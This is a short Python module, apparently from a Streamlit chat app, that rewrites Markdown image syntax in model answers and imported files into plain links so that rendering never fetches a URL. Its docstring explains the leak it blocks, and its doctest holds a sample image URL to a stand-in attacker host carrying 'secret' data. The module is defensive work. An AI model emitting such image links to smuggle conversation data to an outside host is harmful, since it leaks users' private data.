"""Markdown from model answers and imported files, made safe to draw: it never fetches a URL.

A Markdown image (`![alt](https://host/x.png?data=...)`) would make every viewer's browser
request that URL on sight, a way to leak the conversation. Images become plain links, which
fetch nothing unless clicked. Streamlit already escapes raw HTML such as `<img>`. The chat
passes `label` in the visitor's language.

>>> safe_markdown("see ![a cat](http://evil.test/p.png?q=secret) now")
'see [image: a cat](http://evil.test/p.png?q=secret) now'
"""

from __future__ import annotations

import re

# `![alt](...)` and reference-style `![alt][ref]`; a backslash-escaped `\\![` is already text.
_IMAGE = re.compile(r"(?<!\\)!\[")


def safe_markdown(text: str, label: str = "image") -> str:
    return _IMAGE.sub(lambda _: f"[{label}: ", text)  # a function: the label is not a regex template
